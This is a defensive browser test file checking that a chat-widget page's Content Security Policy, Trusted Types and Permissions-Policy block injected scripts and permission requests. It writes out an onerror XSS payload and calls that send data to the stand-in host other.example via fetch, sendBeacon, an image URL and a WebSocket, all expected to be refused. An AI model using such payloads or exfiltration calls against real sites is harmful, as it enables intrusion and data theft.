// What the page forbids itself, tried: each of these is what an injected script would do first.
import { readFileSync } from 'node:fs';
import { ask, expect, open, test } from './harness.mjs';

test.describe('an injected script', () => {
  test.use({ expectedErrors: ['Content Security [Pp]olicy', 'policy violation', '^off the origin: https://other.example/', 'TrustedHTML', 'TrustedScript', 'Failed to load'] });

  test('can neither write markup, nor run text, nor send anything away', async ({ page, server }) => {
    await open(page, server);
    const tried = await page.evaluate(async () => {
      const name = (attempt) => { try { attempt(); return 'allowed'; } catch (error) { return error.name; } };
      const ran = (element) => new Promise((resolve) => {
        globalThis.injected = false;
        document.head.append(element);
        setTimeout(() => resolve(globalThis.injected), 200);
      });
      // Not from here: what a test evaluates may evaluate in its turn, whatever the policy says.
      const later = (attempt) => new Promise((resolve) => setTimeout(() => resolve(name(attempt)), 0));
      const inline = document.createElement('script');
      name(() => { inline.textContent = 'globalThis.injected = true'; });
      const image = new Image();
      return {
        markup: name(() => { document.body.innerHTML = '<img src=x onerror="globalThis.injected = true">'; }),
        policy: name(() => trustedTypes.createPolicy('mine', { createHTML: (text) => text })),
        evaluated: await later(() => globalThis.eval('1')),
        function: await later(() => new Function('return 1')()),
        timer: name(() => setTimeout('globalThis.injected = true', 0)),
        script: name(() => { document.createElement('script').src = 'https://other.example/x.js'; }),
        inline: await ran(inline),
        fetched: await fetch('https://other.example/').then(() => 'allowed', (error) => error.name),
        beacon: await new Promise((resolve) => {
          addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
          navigator.sendBeacon('https://other.example/', 'words');
          setTimeout(() => resolve('allowed'), 1_000);
        }),
        image: await new Promise((resolve) => {
          image.onerror = () => resolve('refused');
          image.onload = () => resolve('allowed');
          image.src = 'https://other.example/?words';
        }),
        socket: name(() => new WebSocket('wss://other.example/')),
      };
    });
    const { socket, ...rest } = tried;
    expect(rest).toEqual({
      markup: 'TypeError', policy: 'TypeError', evaluated: 'EvalError', function: 'EvalError', timer: 'TypeError', script: 'TypeError',
      inline: false, fetched: 'TypeError', beacon: 'refused', image: 'refused',
    });
    expect(['SecurityError', 'allowed'], 'a socket is closed at once where it is not refused').toContain(socket);
  });
});

test('neither the page nor the widget asks for a permission, or could be given any', async ({ page, server, request }) => {
  const header = (await request.get(server.url)).headers()['permissions-policy'];
  await page.addInitScript(() => {
    window.asked = [];
    for (const [owner, name] of [[navigator.permissions, 'query'], [navigator.mediaDevices, 'getUserMedia'], [navigator.geolocation, 'getCurrentPosition'], [Notification, 'requestPermission'], [navigator.clipboard, 'readText']]) {
      if (owner) owner[name] = () => { window.asked.push(name); return Promise.reject(new Error('not in this test')); };
    }
  });
  await open(page, server);
  await ask(page, 'What does shipping cost?');
  const granted = await page.evaluate(() => document.featurePolicy.allowedFeatures());
  expect(await page.evaluate(() => window.asked)).toEqual([]);
  const sensitive = ['camera', 'microphone', 'geolocation', 'usb', 'serial', 'hid', 'bluetooth', 'payment', 'midi',
    'display-capture', 'idle-detection', 'local-fonts', 'publickey-credentials-get', 'screen-wake-lock', 'accelerometer',
    'gyroscope', 'magnetometer', 'browsing-topics', 'attribution-reporting', 'clipboard-read', 'autoplay', 'fullscreen',
    'picture-in-picture', 'sync-xhr', 'storage-access', 'identity-credentials-get', 'otp-credentials', 'keyboard-map',
    'private-state-token-issuance', 'private-state-token-redemption', 'publickey-credentials-create', 'window-management',
    'xr-spatial-tracking', 'gamepad', 'encrypted-media', 'compute-pressure'];
  expect(sensitive.filter((feature) => granted.includes(feature))).toEqual([]);
  // What this browser has never heard of, it cannot say that it withholds; the header says it all the same.
  expect(sensitive.filter((feature) => !header.includes(`${feature}=()`))).toEqual([]);
  const launcher = readFileSync('www/embed.js', 'utf8');
  expect([...launcher.matchAll(/allow: '([^']*)'/g)].map(([, allowed]) => allowed), 'what the widget’s frame is lent').toEqual(['clipboard-write']);
});
